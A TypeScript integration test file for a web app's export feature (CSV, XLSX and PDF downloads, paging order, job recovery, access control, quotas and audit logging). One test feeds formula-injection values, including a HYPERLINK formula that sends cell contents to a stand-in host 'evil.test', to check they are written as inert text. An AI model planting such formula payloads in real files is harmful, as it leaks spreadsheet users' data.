import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { unzipSync } from 'fflate'
import { areas } from '../../src/areas/registry.ts'
import { workOnExports } from '../../src/server/exports/work.ts'
import type { Host } from '../../src/server/context.ts'
import { addExport } from '../../src/server/exports/rows.ts'
import type { FileStore } from '../../src/server/files/fileStore.ts'
import { openFileStore } from '../../src/server/files/openFileStore.ts'
import { sweep } from '../../src/server/jobs/sweep.ts'
import { sessionOf } from '../../src/server/sessions/people.ts'
import { findSession } from '../../src/server/sessions/rows.ts'
import { type Store, system } from '../../src/server/store/store.ts'
import { allColumns } from '../../src/shared/area/columns.ts'
import { listsOf } from '../../src/shared/area/lists.ts'
import { areaFor } from '../../src/shared/area/sight.ts'
import { grants } from '../../machines/kernel/grants.ts'
import type { Export } from '../../src/shared/endpoints/answers/exports.ts'
import type { Totals } from '../../src/shared/endpoints/answers/records.ts'
import { formatMoney } from '../../src/shared/format/money.ts'
import { areaEndpoint } from '../../src/shared/endpoints/areas.ts'
import { type Client, client, demoPassword } from '../support/client.ts'
import { pdfText } from './support/pdfText.ts'
import { readCsv } from './support/csv.ts'
import { startDemoHost } from './support/demo.ts'
import type { TestHost } from './support/host.ts'
import { call, signIn, type SignedIn } from './support/http.ts'
import { asOwner, setRights } from './support/people.ts'
import { shareOf } from './support/share.ts'

let server: TestHost
let files: FileStore
interface Person extends SignedIn, Pick<Client, 'call'> {}
const people: Record<string, Person> = {}

const enter = async (name: string): Promise<Person> => {
  const signedIn = await signIn(server.url, `${name}@covergate.test`, demoPassword)
  return { ...signedIn, call: client(server.url, signedIn.token).call }
}

beforeAll(async () => {
  server = await startDemoHost()
  files = await openFileStore(server.config)
  for (const name of ['super', 'broker', 'bank', 'partner', 'viewer']) people[name] = await enter(name)
})
afterAll(() => server.close())

const changed =
  (text: string) =>
  ({ user }: Person) =>
    asOwner(server.host.store, text, [user.id])
const rows = <R>(text: string, values: unknown[] = []): Promise<R[]> => server.host.store.run<R>(system, text, values)
const lists = areas.filter(({ parent }) => !parent).flatMap(listsOf)

const ask = async (person: Person, list: string, question: object = {}) => {
  const area = lists.find(({ id }) => id === list)!
  return person.call(areaEndpoint(area, 'export').name, {
    columns: [area.title],
    format: 'csv',
    user_timezone: 'Asia/Jakarta',
    ...question,
  })
}
const asked = async (person: Person, list: string, question: object = {}): Promise<string> => {
  const { result, body } = await ask(person, list, question)
  if (!result) throw new Error(JSON.stringify(body))
  return result.id as string
}

const told = async (person: Person, id: string): Promise<Export> => {
  const { body } = await call<{ data: Export[] }>(server.url, '/api/exports', { token: person.token })
  return body.data.find((one) => one.id === id)!
}

/** Until it has ended, by us or by the host's own worker. */
const ended = async (person: Person, id: string): Promise<Export> => {
  await expect
    .poll(
      async () => {
        await workOnExports(server.host, files)
        return (await told(person, id)).state
      },
      { timeout: 20_000 },
    )
    .not.toBe('working')
  return told(person, id)
}

const content = ({ token }: Pick<Person, 'token'>, id: string) =>
  fetch(`${server.url}/api/exports/${id}/content`, { headers: { authorization: `Bearer ${token}` } })

const downloaded = async (person: Person, id: string): Promise<Buffer> => {
  const { state } = await ended(person, id)
  const answer = await content(person, id)
  expect([state, answer.status]).toEqual(['ready', 200])
  return Buffer.from(await answer.arrayBuffer())
}

const sheetOf = (file: Buffer): string => Buffer.from(unzipSync(file)['xl/worksheets/sheet1.xml']!).toString()
const rowsOf = (sheet: string): string[][] =>
  [...sheet.matchAll(/<row>(.*?)<\/row>/gs)].map(([, row]) =>
    [...row!.matchAll(/<c(?: [^>]*)?(?:\/>|>(.*?)<\/c>)/gs)].map(([, cell = '']) => cell.replaceAll(/<[^>]+>/g, '')),
  )

/** Every row that a person sees by turning the list's pages. */
const paged = async (person: Person, list: string, question: object = {}): Promise<Record<string, unknown>[]> => {
  const name = areaEndpoint(
    lists.find(({ id }) => id === list)!,
    'list',
  ).name
  const all: Record<string, unknown>[] = []
  for (let after: string | null = null; ;) {
    const { result } = await person.call(name, { ...question, limit: 50, after, user_timezone: 'Asia/Jakarta' })
    all.push(...(result.data as Record<string, unknown>[]))
    after = (result.meta as { next: string | null }).next
    if (after === null) return all
  }
}

it('B095 is what the list of agent claims answers with the action DOWNLOAD: of exactly what its filter finds, in its order', async () => {
  const person = people['broker']!
  const question = { tab: 'inactive', filter: { status: ['REJECTED'] }, sort: 'claimedAmount' }
  const seen = await paged(person, 'agent_claim', question)
  expect(seen.length).toBeGreaterThan(2)
  const download = (more: object) =>
    person.call('agent_claim.list', { ...question, user_timezone: 'Asia/Jakarta', action: 'DOWNLOAD', ...more })
  const [csv, xlsx] = [await download({ limit: 10 }), await download({ format: 'xlsx', columns: ['claimNumber'] })]
  const numbers = seen.map(({ claimNumber }) => claimNumber)
  const [, ...written] = readCsv((await downloaded(person, csv.result.id as string)).toString())
  expect(written.map(([first]) => first)).toEqual(numbers)
  const [, ...cells] = rowsOf(sheetOf(await downloaded(person, xlsx.result.id as string)))
  expect(cells.map(([first]) => first)).toEqual(numbers)
  expect((await download({ action: 'DELETE' })).status).toBe(400)
})

describe.each(shareOf(['super', 'broker', 'partner']))('an export of %s', (name) => {
  // There are more lists than a person exports a day.
  afterEach(() => asOwner(server.host.store, `delete from quotas`))

  it.each(shareOf(lists).map(({ id }) => id))(
    'B167 of %s has the rows that its pages have, in their order',
    async (id) => {
      const person = people[name]!
      const list = lists.find((one) => one.id === id)!
      if (!grants(person.user.permissions, list.permissions.list)) {
        expect((await ask(person, id)).status).toBe(403)
        return
      }
      const { title } = list
      // That somebody exports is kept in the audit log.
      const found = id === 'audit_log' ? { filter: { event: ['signIn'] } } : {}
      const whole = {
        ...found,
        columns: allColumns(areaFor(list, person.user.permissions), person.user.organization.kind),
      }
      const csv = await asked(person, id, whole)
      const written = readCsv((await downloaded(person, csv)).toString())
      const seen = await paged(person, id, found)
      expect(written.slice(1).map(([first]) => first)).toEqual(seen.map((row) => row[title]))
      expect(written.every((record) => record.length === written[0]!.length)).toBe(true)
      expect(await told(person, csv)).toMatchObject({ rows: seen.length, total: seen.length })
      const sort = list.list.sorts.at(-1)!
      const sheet = rowsOf(
        sheetOf(await downloaded(person, await asked(person, id, { ...found, sort, format: 'xlsx' }))),
      )
      expect(sheet.slice(1).map(([first]) => first)).toEqual(
        (await paged(person, id, { ...found, sort })).map((row) => row[title]),
      )
    },
  )
})

describe('a file', () => {
  const named = async (customer: string) => {
    const [row] = await rows<{ id: string; quotes_code: string }>(
      'select id, quotes_code from credit_life_quotations order by created_at desc, id desc limit 1',
    )
    await asOwner(
      server.host.store,
      `update credit_life_quotations set customer_name = $2, loan_amount = 1234567, created_at = '2026-03-02T18:30:15Z', application_date = '2026-03-01' where id = $1`,
      [row!.id, customer],
    )
    return row!.quotes_code
  }
  const columns = ['quotesCode', 'customer_name', 'loan_amount', 'application_date', 'created_at']

  it.each([
    '=HYPERLINK("http://evil.test?"&A1,"x")',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '＝1+1',
    ' =1+1',
    'A "quoted", name; of\ntwo lines',
  ])('1.2.10 has %j as a text that nothing calculates', async (customer) => {
    const code = await named(customer)
    const question = { search: code, columns }
    const [csv, xlsx] = [
      await asked(people['super']!, 'credit_life', question),
      await asked(people['super']!, 'credit_life', { ...question, format: 'xlsx' }),
    ]
    const [, record] = readCsv((await downloaded(people['super']!, csv)).toString())
    expect(record!.slice(0, 5)).toEqual([
      code,
      customer.startsWith('A') ? customer : `'${customer}`,
      '1234567',
      '2026-03-01',
      '2026-03-03T01:30:15+07:00',
    ])
    const sheet = sheetOf(await downloaded(people['super']!, xlsx))
    expect(sheet).not.toContain('<f>')
    const written = customer.replaceAll('&', '&amp;')
    expect(sheet).toContain(`t="inlineStr"><is><t xml:space="preserve">${written}</t>`)
    expect(sheet).toMatch(/<v>1234567<\/v>.*<v>46082<\/v>.*<v>46084\.0626/)
  })

  it('for printing has the rows on pages, and at its end what they come to by their parts', async () => {
    const person = people['super']!
    const wanted = ['quotesCode', 'bank_name', 'bank_branch_name', 'totalPremium']
    const file = await downloaded(person, await asked(person, 'spk_report', { columns: wanted, format: 'pdf' }))
    const [pages, totals] = pdfText(file).split('\nTotals\n') as [string, string]
    const seen = await paged(person, 'spk_report')
    expect(pages.split('\n').filter((text) => seen.some((row) => row['quotesCode'] === text))).toEqual(
      seen.map((row) => row['quotesCode']),
    )
    expect(pages).toContain('SPK Report\n')
    const { result } = await person.call('spk_report.totals', { user_timezone: 'UTC' })
    for (const { values, count, sums } of result.parts as Totals['parts'])
      expect(totals).toContain([...values, count, formatMoney(sums['totalPremium']!)].join('\n'))
  })

  it("is headed and worded in the reader's language, and says its currency", async () => {
    const code = await named('Budi')
    const question = { search: code, columns: ['quotesCode', 'status', 'loan_amount', 'created_at'] }
    const answer = await fetch(`${server.url}/api/graphql`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'accept-language': 'id',
        authorization: `Bearer ${people['super']!.token}`,
      },
      body: JSON.stringify({
        persisted: true,
        query: 'credit_life.export',
        variables: { ...question, format: 'csv', user_timezone: 'UTC' },
      }),
    })
    const { data } = (await answer.json()) as { data: { result: { id: string } } }
    const text = (await downloaded(people['super']!, data.result.id)).toString()
    const [head, record] = readCsv(text)
    expect(text.charCodeAt(0)).toBe(0xfeff)
    expect([head![0], head!.at(-2), head!.at(-1)]).toEqual(['Nomor penawaran', 'Dibuat', 'Mata uang'])
    expect(record!.at(-2)).toBe('2026-03-02T18:30:15Z')
    expect(record!.at(-1)).toBe('IDR')
  })

  it.each([
    { columns: [] },
    { columns: ['quotesCode', 'quotesCode'] },
    { columns: ['identity_number_of_others'] },
    { format: 'odt' },
    { tab: 'NONE' },
    { sort: 'gender' },
    { search: 'ab' },
    { user_timezone: 'Mars' },
    { filter: { status: ['NONE'] } },
  ])('is refused at once where it is asked for wrongly: %j', async (question) => {
    const before = await rows('select id from exports')
    expect((await ask(people['super']!, 'credit_life', question)).status).toBe(400)
    expect(await rows('select id from exports')).toHaveLength(before.length)
  })
})

const sorted = (texts: unknown[]) => texts.map(String).toSorted((a, b) => (a < b ? -1 : 1))

describe('a job', () => {
  /** One page a slice. */
  const most = { milliseconds: 0, rows: 1 }
  const size = 250
  beforeAll(async () => {
    const columns = await rows<{ name: string }>(
      `select attname as name from pg_attribute where attrelid = 'banks'::regclass and attnum > 0 and not attisdropped and attgenerated = '' and attname <> 'id'`,
    )
    const others = columns.map(({ name }) => name)
    const unique = ['code', 'name', 'account_number']
    const value = (name: string) => (unique.includes(name) ? `${name} || n` : name)
    await asOwner(
      server.host.store,
      `insert into banks (${others.join(', ')}) select ${others.map(value).join(', ')} from (select * from banks limit 1) one, generate_series(1, ${size}) n`,
    )
  })

  /** Asked for an hour from now, so that the host's own worker leaves it alone. */
  let ahead = 3_600_000
  const later = (store: Store = server.host.store): Host => ({
    ...server.host,
    store,
    clock: () => new Date(server.host.clock().getTime() + ahead),
  })
  const begun = async ({ user }: Person, list: string, question: object = {}): Promise<string> => {
    const [session] = await rows<{ id: string }>(
      'select id from sessions where user_id = $1 and ended_at is null order by created_at desc limit 1',
      [user.id],
    )
    const standing = sessionOf(session!.id, (await findSession(server.host.store, session!.id))!)
    const asking = { columns: [lists.find(({ id }) => id === list)!.title], user_timezone: 'UTC', ...question }
    const ordered = { list, question: asking, format: 'csv', locale: 'en' } as const
    return (await addExport(server.host.store, standing, ordered, later().clock()))!
  }
  const slowly = (store?: Store): Promise<number> => workOnExports(later(store), files, most)
  const stateOf = async (id: string): Promise<string> =>
    (await rows<{ state: string }>('select state from exports where id = $1', [id]))[0]!.state
  const workedOff = async (person: Person, id: string): Promise<(string | undefined)[]> => {
    while ((await stateOf(id)) === 'working') await slowly()
    return readCsv(Buffer.from(await (await content(person, id)).arrayBuffer()).toString())
      .slice(1)
      .map(([first]) => first)
  }

  it('goes on where one that was killed has kept its last piece, without a row twice or left out', async () => {
    const person = people['super']!
    const id = await begun(person, 'bank', { sort: 'code' })
    await slowly()
    // Whoever is killed keeps nothing and gives nothing back.
    const killed: Store = {
      ...server.host.store,
      run: (caller, text, ...more) =>
        /^\s*(with kept|update exports set attempts)/.test(text)
          ? Promise.reject(new Error('killed'))
          : server.host.store.run(caller, text, ...more),
    }
    await expect(slowly(killed)).rejects.toThrow('killed')
    expect([await slowly(), (await told(person, id)).rows]).toEqual([0, 100])
    ahead += 61_000
    const seen = (await paged(person, 'bank', { sort: 'code' })).map(({ name }) => name)
    expect(await workedOff(person, id)).toEqual(seen)
    expect(seen.length).toBeGreaterThan(size)
  })

  it('has a row that changes its place meanwhile once, and leaves none out', async () => {
    const person = people['super']!
    const before = await paged(person, 'bank', { sort: 'name' })
    const id = await begun(person, 'bank', { sort: 'name' })
    await slowly()
    const [first, last] = [before[0]!, before.at(-1)!]
    const rename = `update banks set name = $2, updated_at = $3 where id = $1`
    const at = later().clock().toISOString()
    await asOwner(server.host.store, rename, [first['id'], `${String(last['name'])} zz`, at])
    await asOwner(server.host.store, rename, [last['id'], 'A late one', at])
    const expected = [...before.slice(0, -1).map(({ name }) => name), 'A late one']
    expect(sorted(await workedOff(person, id))).toEqual(sorted(expected))
  })

  it('is cancelled by who asked for it, and what was written is removed', async () => {
    const person = people['super']!
    const id = await asked(person, 'bank')
    const { status } = await call(server.url, `/api/exports/${id}/cancel`, { method: 'POST', token: person.token })
    expect(status).toBe(204)
    await workOnExports(server.host, files)
    expect((await told(person, id)).state).toBe('cancelled')
    await sweep(server.host, files)
    expect(await rows('select number from export_parts where export_id = $1', [id])).toEqual([])
  })

  it.each([
    ['the permission is taken away', ({ user }: Person) => setRights(server.host.store, user.email, ['bank.list'])],
    ['the account is locked', changed('update users set locked_at = now() where id = $1')],
    ['the session is over', changed('update sessions set ended_at = now() where user_id = $1')],
  ])('ends, and with it the way to the file, when %s', async (_, change) => {
    const person = await enter('viewer')
    const ready = await asked(person, 'credit_life')
    await ended(person, ready)
    const id = await begun(person, 'credit_life')
    await change(person)
    await slowly()
    expect(await stateOf(id)).toBe('refused')
    await expect
      .poll(async () => (await content(person, ready)).status)
      .toSatisfy((code: number) => code === 401 || code === 404)
    await setRights(server.host.store, person.user.email, person.user.permissions)
    await changed('update users set locked_at = null where id = $1')(person)
  })
})

describe('the doors', () => {
  it('are alike for exports of others, guessed, unfinished, cancelled and expired ones', async () => {
    const [owner, other] = [people['super']!, people['broker']!]
    const ready = await asked(owner, 'bank')
    await ended(owner, ready)
    const late = await asked(owner, 'bank')
    await rows(`update exports set run_at = run_at + interval '1 hour' where id = $1`, [late])
    const answers = async (person: Person, id: string) => {
      const { status, body } = await call<Record<string, unknown>>(server.url, `/api/exports/${id}/content`, {
        token: person.token,
      })
      return [status, { ...body, reference: '' }]
    }
    const guessed = await answers(owner, '00000000-0000-4000-8000-000000000000')
    expect(guessed[0]).toBe(404)
    expect(await answers(other, ready)).toEqual(guessed)
    expect(await answers(owner, late)).toEqual(guessed)
    for (const way of ['again', 'cancel']) {
      const path = `/api/exports/${ready}/${way}`
      expect((await call(server.url, path, { method: 'POST', token: other.token })).status).toBe(404)
    }
    expect((await content(owner, ready)).status).toBe(200)
    await rows(`update exports set expires_at = $2 where id = $1`, [ready, server.host.clock().toISOString()])
    expect(await answers(owner, ready)).toEqual(guessed)
    expect((await told(owner, ready)).state).toBe('expired')
    const [kept] = await rows<{ storage_key: string }>('select storage_key from exports where id = $1', [ready])
    await sweep(server.host, files)
    expect(await files.read(kept!.storage_key)).toBeNull()
    await call(server.url, `/api/exports/${late}/cancel`, { method: 'POST', token: owner.token })
  })

  it('2.3.2 let in as many at once as there may be, however many ask', async () => {
    const person = await enter('bank')
    const answers = await Promise.all(Array.from({ length: 20 }, () => ask(person, 'credit_life')))
    expect(answers.filter(({ status }) => status === 200).length).toBeGreaterThanOrEqual(3)
    const [most] = await rows<{ count: number }>(
      `select count(*) from exports where user_id = $1 and state = 'working'`,
      [person.user.id],
    )
    expect(most!.count).toBeLessThanOrEqual(3)
    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([200, 429]))
    const [today] = await rows<{ used: number }>('select used from quotas where bucket = $1', [
      `exports ${person.user.id}`,
    ])
    expect(today!.used).toBe(answers.filter(({ status }) => status === 200).length)
  })

  it('keep in the audit who asked for what, and who took it away', async () => {
    const person = people['super']!
    const id = await asked(person, 'bank')
    await downloaded(person, id)
    const kept = await rows<{ event: string; detail: Record<string, string> }>(
      `select event, detail from audit where user_id = $1 and detail ->> 'export' = $2 order by id`,
      [person.user.id, id],
    )
    expect(kept.map(({ event, detail }) => [event, detail['list']])).toEqual([
      ['export', 'bank'],
      ['exportDownload', 'bank'],
    ])
  })
})
